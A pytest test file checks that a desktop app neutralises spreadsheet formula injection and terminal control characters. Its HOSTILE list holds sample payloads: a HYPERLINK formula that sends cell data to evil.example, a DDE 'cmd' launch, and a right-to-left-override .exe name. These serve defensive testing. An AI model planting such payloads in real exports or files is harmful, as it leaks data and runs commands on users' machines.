"""Text from data made safe for terminals and spreadsheets."""

from __future__ import annotations

import pytest

from desktop_app.core.text_safety import (
    has_control,
    limit_length,
    replace_control,
    spreadsheet_safe,
    spreadsheet_unescape,
    strip_control,
    terminal_safe,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tstarts with tab",
    "\rstarts with CR",
    "'=already quoted",
    "''+twice",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised_and_round_trip(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe.startswith("'")
    assert not has_control(safe)
    assert spreadsheet_unescape(safe) == replace_control(cell)


@pytest.mark.parametrize("cell", ["-0.125", "1e-05", "+3", "0.15193818", "ISIC_0000002.jpg",
                                  "/data/a.jpg", "", "'plain apostrophe", "ok"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
    assert spreadsheet_unescape(cell) == cell


def test_control_characters() -> None:
    text = "a\x1b[31mred\x1b[0m\nb\u202egpj.exe\x9b\x00"
    assert strip_control(text) == "a[31mred[0mbgpj.exe"
    assert replace_control("a\nb") == "a\ufffdb"
    shown = terminal_safe(text)
    assert not has_control(shown)
    assert "\\x1b[31m" in shown and "\\n" in shown and "\\u202e" in shown
    assert terminal_safe("Müller, José 病变.jpg") == "Müller, José 病变.jpg"
    assert terminal_safe(42) == "42"


def test_limit_length() -> None:
    assert limit_length("abc", 3) == "abc"
    assert limit_length("abcdef", 4) == "abc\u2026"
    with pytest.raises(ValueError):
        limit_length("abc", 0)
